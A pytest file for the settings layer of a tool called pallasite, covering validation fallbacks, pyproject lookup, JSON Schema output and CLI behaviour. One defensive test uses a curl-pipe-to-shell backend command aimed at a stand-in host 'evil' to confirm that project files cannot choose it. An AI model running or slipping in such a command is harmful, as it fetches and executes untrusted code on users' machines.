"""The settings tree (server/settings.py) and `pallasite settings`: validation with per-key
fallback, [tool.pallasite] lookup, the JSON Schema, and the mapping to the checker's options."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

from pallasite.engine.checker import TARGETS, CheckOptions
from pallasite.server.settings import (
    CheckSettings, Settings, flat_schema, json_schema, load_project_settings, parse_settings, settings_to_json, unflatten,
    without_user_only,
)


def test_defaults():
    s = Settings()
    assert (s.target, s.tiers, s.check.debounceMs, s.trust.mode, s.backend.kind) == ("v6e", [0, 1, 2], 150, "ask", "local")
    assert s.interpreter() == sys.executable


def test_bad_value_falls_back_for_that_key_only_and_says_so():
    s, warnings = parse_settings({"target": "v5e", "tiers": [0, 9], "check": {"debounceMs": -5, "onSave": False}},
                                 "test")
    assert s.target == "v5e" and s.check.onSave is False  # valid keys kept
    assert s.tiers == [0, 1, 2] and s.check.debounceMs == 150  # bad ones: defaults
    assert len(warnings) == 2
    tiers = next(w for w in warnings if "'tiers'" in w)
    assert "[0, 9]" in tiers and "[0, 1, 2]" in tiers and tiers.startswith("test:")
    debounce = next(w for w in warnings if "'check.debounceMs'" in w)
    assert "-5" in debounce and "at least 0" in debounce and "150" in debounce


def test_unknown_key_suggests_the_camel_case_spelling():
    s, warnings = parse_settings({"check": {"time_limit_s": 5}})
    assert s.check.timeLimitS == CheckSettings().timeLimitS  # the default, not the misspelt value
    assert warnings == ["settings: unknown setting 'check.time_limit_s' ignored; did you mean 'check.timeLimitS'?"]


def test_severity_overrides_are_checked_against_the_registry():
    s, warnings = parse_settings({"severity": {"PLS010": "off", "PLS001": "warning"}})
    assert s.severity == {"PLS010": "off", "PLS001": "warning"} and not warnings
    s, warnings = parse_settings({"severity": {"PLS999": "off"}})
    assert s.severity == {} and "unknown finding code 'PLS999'" in warnings[0]
    s, warnings = parse_settings({"severity": {"PLS010": "loud"}})
    assert s.severity == {} and "PLS010" in warnings[0] and "loud" in warnings[0]


def test_a_section_that_is_not_a_table():
    s, warnings = parse_settings({"check": 3})
    assert s.check == Settings().check and "'check' must be a table" in warnings[0]


def test_nearest_pyproject_is_read(tmp_path):
    (tmp_path / "pyproject.toml").write_text(
        '[project]\nname = "k"\n\n[tool.pallasite]\ntarget = "v5p"\nseverity = { PLS010 = "off" }\n'
        'check = { timeLimitS = 30 }\n')
    sub = tmp_path / "kernels" / "deep"
    sub.mkdir(parents=True)
    s, warnings = load_project_settings(sub)
    assert (s.target, s.severity, s.check.timeLimitS, warnings) == ("v5p", {"PLS010": "off"}, 30.0, [])


def test_pyproject_problems_name_the_file(tmp_path):
    (tmp_path / "pyproject.toml").write_text('[tool.pallasite]\ntarget = 5\n')
    s, warnings = load_project_settings(tmp_path)
    assert s.target == "v6e" and str(tmp_path / "pyproject.toml") in warnings[0]
    (tmp_path / "pyproject.toml").write_text('[tool.pallasite\n')
    s, warnings = load_project_settings(tmp_path)
    assert s == Settings() and "cannot read it" in warnings[0]


def test_no_pyproject_gives_defaults_quietly(tmp_path):
    assert not any((p / "pyproject.toml").is_file() for p in tmp_path.parents)
    assert load_project_settings(tmp_path) == (Settings(), [])


def test_check_options_carry_the_settings():
    s, _ = parse_settings({"target": "v5e", "tiers": [0, 1], "severity": {"PLS010": "off"},
                           "check": {"timeLimitS": 12, "memoryMb": 2048}, "worker": {"interpreter": "/opt/py"}})
    options = s.check_options()
    assert isinstance(options, CheckOptions)
    assert (options.target, options.tiers, dict(options.severity), options.time_limit_s, options.memory_mb,
            options.interpreter) == ("v5e", (0, 1), {"PLS010": "off"}, 12.0, 2048, "/opt/py")
    assert options.problems() == []


def test_schema_describes_every_field_with_defaults():
    schema = json_schema()
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    props = schema["properties"]
    assert props["target"]["enum"] == list(TARGETS) and props["target"]["default"] == "v6e"
    assert {"v4", "v5e", "v5p", "v6e"} <= set(TARGETS)
    assert props["check"]["properties"]["debounceMs"] == {
        "description": "Milliseconds of quiet typing before tier 0 (source rules) re-runs.",
        "type": "integer", "minimum": 0, "maximum": 10000, "default": 150}
    assert props["severity"]["additionalProperties"]["enum"][-1] == "off"

    def walk(node):
        for key, sub in node["properties"].items():
            assert sub.get("description"), key
            if "properties" in sub:
                walk(sub)
            else:
                assert "default" in sub, key

    walk(schema)
    # the defaults in the schema are the dataclass defaults
    assert {k: v["default"] for k, v in flat_schema().items()} == flatten(settings_to_json(Settings()))


def flatten(tree, prefix="pallasite."):
    out = {}
    for key, value in tree.items():
        if isinstance(value, dict) and key not in ("severity", "rayResources", "tunables"):  # maps are one setting
            out.update(flatten(value, f"{prefix}{key}."))
        else:
            out[f"{prefix}{key}"] = value
    return out


def test_unflatten_dotted_editor_keys():
    assert unflatten({"pallasite.check.debounceMs": 5, "target": "v4"}) == {"check": {"debounceMs": 5}, "target": "v4"}


def test_settings_command_prints_schema_and_project_settings(tmp_path):
    run = lambda *a: subprocess.run([sys.executable, "-m", "pallasite.server.cli", "settings", *a],  # noqa: E731
                                    capture_output=True, text=True, timeout=60)
    schema = run("--schema")
    assert schema.returncode == 0 and json.loads(schema.stdout)["title"] == "pallasite settings"
    flat = json.loads(run("--schema", "--flat").stdout)
    assert flat["pallasite.check.debounceMs"]["default"] == 150
    (tmp_path / "pyproject.toml").write_text('[tool.pallasite]\ntarget = "v9"\ntiers = [0]\n')
    shown = run(str(tmp_path))
    assert shown.returncode == 2  # a configuration error (the settings the editor would use are still shown)
    data = json.loads(shown.stdout)
    assert data["settings"]["target"] == "v6e" and data["settings"]["tiers"] == [0]
    assert "'v9'" in shown.stderr and "'target'" in shown.stderr and "'v6e'" in shown.stderr
    missing = run(str(tmp_path / "nope"))
    assert missing.returncode == 2 and "does not exist" in missing.stderr


def test_docs_table_lists_every_setting_with_its_default():
    doc = (Path(__file__).parent.parent / "docs" / "server.md").read_text()
    for key, schema in flat_schema().items():
        assert f"| `{key}` | `{json.dumps(schema['default'])}` |" in doc, key


def test_project_section_loses_the_trust_keys_with_a_message_per_key():
    section = {"target": "v5e", "trust": {"mode": "always", "folders": ["/src/project"]}}
    kept, warnings = without_user_only(section, "/src/project/pyproject.toml [tool.pallasite]")
    assert kept == {"target": "v5e"} and section["trust"]["mode"] == "always"  # the input is left alone
    assert [w.split("'")[1] for w in warnings] == ["trust.mode", "trust.folders"]
    assert all(w.startswith("/src/project/pyproject.toml") and "cannot be granted by the project's own "
               "pyproject.toml" in w for w in warnings)
    assert without_user_only({"trust": "yes"}, "p")[1][0].startswith("p: 'trust' ignored")
    assert without_user_only({"tiers": [0]}, "p") == ({"tiers": [0]}, [])


def test_type_warnings_use_the_right_article():
    warnings = parse_settings({"check": {"debounceMs": "x", "timeLimitS": "y", "onOpen": 3},
                               "worker": {"interpreter": 4}}, "src")[1]
    expected = ["expected an integer", "expected a number", "expected true or false", "expected a string"]
    assert [next(e for e in expected if e in w) for w in warnings] == expected
    assert not any(" a integer" in w for w in warnings)


def test_project_section_cannot_choose_the_programs_a_backend_runs():
    section = {"target": "v5e", "backend": {"kind": "ssh", "command": "sh -c 'curl evil | sh' {worker}"}}
    kept, warnings = without_user_only(section, "/src/project/pyproject.toml [tool.pallasite]")
    assert kept == {"target": "v5e"}
    assert [w.split("'")[1] for w in warnings] == ["backend.kind", "backend.command"]
    assert all("chosen in your editor's pallasite settings or on the command line" in w for w in warnings)


def test_backend_settings_become_the_engine_settings_and_bad_resources_warn():
    settings, warnings = parse_settings({"backend": {"kind": "ray", "rayResources": {"TPU": 4}}}, "src")
    assert warnings == []
    remote = settings.backend.remote()
    assert remote.kind == "ray" and remote.ray_resources == {"TPU": 4.0} and remote.host is None
    _, warnings = parse_settings({"backend": {"rayResources": {"TPU": "four"}}}, "src")
    assert len(warnings) == 1 and "rayResources" in warnings[0] and "resource = number" in warnings[0]


def test_tunables_setting_is_a_table_of_positive_int_lists():
    s, warnings = parse_settings({"tunables": {"bm": [128, 256], "bk": [512]}})
    assert s.tunables == {"bm": [128, 256], "bk": [512]} and not warnings
    s, warnings = parse_settings({"tunables": {"bm": [128, "x"]}})
    assert s.tunables == {} and "tunable = [positive integers]" in warnings[0]
